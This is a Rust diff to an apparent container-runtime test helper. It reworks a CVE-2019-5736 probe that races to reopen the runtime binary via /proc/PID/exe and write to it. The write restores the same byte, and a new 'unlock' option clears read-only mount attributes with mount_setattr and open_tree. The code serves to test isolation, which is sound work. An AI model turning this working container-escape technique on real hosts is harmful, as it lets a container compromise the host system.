@@ -164,7 +164,11 @@ fn run(args: &[String]) -> Result<(), String> {
         }
         // CVE-2019-5736 from inside: hold /proc/PID/exe by an O_PATH fd,
         // then for up to S seconds try to reopen it for writing (the runtime
-        // leaves once the container starts) and overwrite its first byte.
+        // leaves once the container starts) and write to it. The write puts
+        // back the byte already there, so a success proves the hole without
+        // breaking the host binary. With "unlock" (needs CAP_SYS_ADMIN) it
+        // first tries to clear a read-only mount attribute on the held file
+        // (mount_setattr, or on an open_tree clone of it).
         // Prints "link <target>", then "wrote" (exit 3) or why it could not.
         "overwrite-exe" => {
             use std::os::fd::AsRawFd;
@@ -178,28 +182,48 @@ fn run(args: &[String]) -> Result<(), String> {
             let link = std::fs::read_link(arg(1)).map_err(|e| e.to_string())?;
             println!("link {}", link.display());
             let _ = std::io::stdout().flush();
-            let via = format!("/proc/self/fd/{}", held.as_raw_fd());
+            let mut targets = vec![format!("/proc/self/fd/{}", held.as_raw_fd())];
+            if arg(3) == "unlock" {
+                println!("mount_setattr: {}", clear_ro(held.as_raw_fd()));
+                // SAFETY: open_tree with a valid fd and an empty C path.
+                let clone = unsafe {
+                    libc::syscall(libc::SYS_open_tree, held.as_raw_fd(), c"".as_ptr(), 1 | libc::AT_EMPTY_PATH | libc::O_CLOEXEC)
+                };
+                if clone < 0 {
+                    println!("open_tree: {}", std::io::Error::last_os_error());
+                } else {
+                    println!("open_tree: ok; mount_setattr on clone: {}", clear_ro(clone as i32));
+                    targets.push(format!("/proc/self/fd/{clone}"));
+                }
+                let _ = std::io::stdout().flush();
+            }
             let start = std::time::Instant::now();
             let mut last = String::new();
             while start.elapsed().as_secs_f64() < secs {
-                match std::fs::OpenOptions::new().write(true).open(&via) {
-                    Ok(f) => match f.write_at(b"x", 0) {
-                        Ok(_) => {
-                            println!("wrote");
-                            let _ = std::io::stdout().flush();
-                            std::process::exit(3);
-                        }
+                for via in &targets {
+                    let mut first = [0u8; 1];
+                    if let Ok(r) = std::fs::File::open(via) {
+                        let _ = r.read_at(&mut first, 0);
+                    }
+                    match std::fs::OpenOptions::new().write(true).open(via) {
+                        Ok(f) => match f.write_at(&first, 0) {
+                            Ok(_) => {
+                                println!("wrote through {via}");
+                                let _ = std::io::stdout().flush();
+                                std::process::exit(3);
+                            }
+                            Err(e) => {
+                                println!("opened {via} for writing; write refused: {e}");
+                                return Ok(());
+                            }
+                        },
                         Err(e) => {
-                            println!("opened for writing; write refused: {e}");
-                            return Ok(());
-                        }
-                    },
-                    Err(e) => {
-                        let msg = format!("open for writing refused: {e}");
-                        if msg != last {
-                            println!("{msg}");
-                            let _ = std::io::stdout().flush();
-                            last = msg;
+                            let msg = format!("open for writing refused: {e}");
+                            if msg != last {
+                                println!("{msg}");
+                                let _ = std::io::stdout().flush();
+                                last = msg;
+                            }
                         }
                     }
                 }
@@ -214,11 +238,39 @@ fn run(args: &[String]) -> Result<(), String> {
             println!("{m:04o}");
         }
         _ => {
-            eprintln!("usage: payload pid|ppid|id|cwd|env|hostname|domainname|status|cat F|exists F|write F DATA|readlink F|fds|rlimit NAME|exit N|sleep S|count|memhog MB|forks N|spin S|wait-signal|syscall NAME|umask|overwrite-exe PATH S");
+            eprintln!("usage: payload pid|ppid|id|cwd|env|hostname|domainname|status|cat F|exists F|write F DATA|readlink F|fds|rlimit NAME|exit N|sleep S|count|memhog MB|forks N|spin S|wait-signal|syscall NAME|umask|overwrite-exe PATH S [unlock]");
             std::process::exit(2);
         }
     }
     Ok(())
+}
+
+/// mount_setattr(fd, "", AT_EMPTY_PATH) clearing MOUNT_ATTR_RDONLY.
+fn clear_ro(fd: i32) -> String {
+    #[repr(C)]
+    struct MountAttr {
+        set: u64,
+        clr: u64,
+        propagation: u64,
+        userns: u64,
+    }
+    let attr = MountAttr { set: 0, clr: 1, propagation: 0, userns: 0 };
+    // SAFETY: attr outlives the call and its size is passed.
+    let r = unsafe {
+        libc::syscall(
+            libc::SYS_mount_setattr,
+            fd,
+            c"".as_ptr(),
+            libc::AT_EMPTY_PATH,
+            &attr as *const MountAttr,
+            std::mem::size_of::<MountAttr>(),
+        )
+    };
+    if r < 0 {
+        std::io::Error::last_os_error().to_string()
+    } else {
+        "ok".to_string()
+    }
 }
 
 fn read(path: &str) -> Result<String, String> {
